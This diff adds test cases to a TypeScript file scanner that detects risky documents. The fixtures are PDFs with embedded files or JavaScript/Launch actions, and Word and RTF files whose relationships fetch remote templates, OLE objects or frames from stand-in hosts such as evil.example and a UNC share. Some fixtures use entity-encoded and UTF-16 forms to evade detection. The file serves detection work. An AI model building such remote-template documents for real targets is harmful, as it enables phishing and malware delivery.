@@ -51,10 +51,29 @@ describe('a PDF', () => {
   });
 
   test.each<[string, Buffer]>([
+    ['plainly', pdf('<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>')],
+    ['by reference', pdf('<</Type/Filespec/EF 7 0 R>>')],
+    ['in signs written as numbers', pdf('<</#45F <</F 5 0 R>>>>')],
+    ['packed', packet('5 0 <</F(a)/EF<</F 6 0 R>>>>')],
+  ])('with another file within it, %s, is told', (_how, bytes) => {
+    expect(actOf(bytes)).toBe('carries');
+    expect(judged('.pdf', bytes)).toMatchObject({
+      rule: 'attachment-program',
+      severity: 'warning',
+      message: expect.stringContaining('tệp khác đính kèm bên trong'),
+    });
+  });
+
+  test('is told by the worst that it does', () => {
+    expect(actOf(pdf('<</EF<</F 5 0 R>>>><</S/JavaScript>>'))).toBe('runs');
+    expect(actOf(pdf('<</EF<</F 5 0 R>>>><</S/Launch>>'))).toBe('starts');
+  });
+
+  test.each<[string, Buffer]>([
     ['a link', pdf('<</S/URI/URI(https://a.vn/)>>')],
     ['a place in itself', pdf('<</S/GoTo/D[1 0 R]>>')],
     ['those words', pdf('(bam /Launch de mo, /JavaScript thi khong)')],
-    ['a longer name', pdf('<</S/LaunchPad>>')],
+    ['a longer name', pdf('<</S/LaunchPad/EFG<<>>>>')],
     ['a packet that is broken', pdf('<</Type/ObjStm>>stream\nxyz\nendstream')],
     ['a packet without its end', pdf('<</Type/ObjStm>>')],
   ])('with %s is only read', (_what, bytes) => {
@@ -99,6 +118,55 @@ describe('an office file', () => {
     expect(holdsPackage(bytes)).toBe(false);
     expect(judged('.docx', word('word/embeddings/oleObject1.bin', bytes))).toBeUndefined();
     expect(judged('.doc', bytes)).toBeUndefined();
+  });
+
+  const relations = (type: string, target: string, more = '') =>
+    Buffer.from(
+      `<?xml version="1.0"?><Relationships xmlns="x"><Relationship Id="r1" Type="http://schemas.example/${type}" Target="${target}" TargetMode="External"/>${more}</Relationships>`,
+    );
+  const SETTINGS = 'word/_rels/settings.xml.rels';
+
+  test.each<[string, string, Uint8Array]>([
+    ['a template', SETTINGS, relations('attachedTemplate', 'https://evil.example/a.dotm')],
+    [
+      'a template under signs as numbers',
+      SETTINGS,
+      relations('attachedTemplate', '&#104;ttp://evil.example/a'),
+    ],
+    ['a template of another machine', SETTINGS, relations('attachedTemplate', 'file://10.0.0.1/a.dotm')],
+    ['an object', 'word/_rels/document.xml.rels', relations('oleObject', 'mhtml:http://evil.example/a')],
+    ['a frame', 'word/_rels/webSettings.xml.rels', relations('frame', '\\\\evil.example\\a')],
+    [
+      'in UTF-16',
+      SETTINGS,
+      Buffer.from(`\uFEFF${relations('attachedTemplate', 'http://evil.example/a')}`, 'utf16le'),
+    ],
+    [
+      'single quotes, another order',
+      SETTINGS,
+      Buffer.from(
+        "<r:Relationship TargetMode='External' Target = 'http://evil.example/a' Type='http://x/attachedTemplate' />",
+      ),
+    ],
+  ])('that fetches %s is refused', (_what, name, bytes) => {
+    expect(judged('.docx', word(name, bytes))).toMatchObject({
+      rule: 'attachment-program',
+      message: expect.stringContaining('mỗi khi mở'),
+    });
+  });
+
+  test.each([
+    ['a template of its own machine', relations('attachedTemplate', 'file:///C:\\Users\\A\\Normal.dotm')],
+    ['a link', relations('hyperlink', 'https://a.example/')],
+    ['a part of its own', relations('oleObject', 'embeddings/oleObject1.bin')],
+  ])('that names %s is not', (_what, bytes) => {
+    expect(judged('.docx', word(SETTINGS, bytes))).toBeUndefined();
+  });
+
+  test('of RTF that fetches a template is refused', () => {
+    const rtf = (target: string) => Buffer.from(`{\\rtf1{\\*\\template ${target}}Chu}`, 'latin1');
+    expect(judged('.doc', rtf('http://evil.example/a.dotm'))).toMatchObject({ rule: 'attachment-program' });
+    expect(judged('.doc', rtf('C:\\\\Users\\\\Normal.dotm'))).toBeUndefined();
   });
 
   test('whose object cannot be unpacked is not kept back for that', () => {
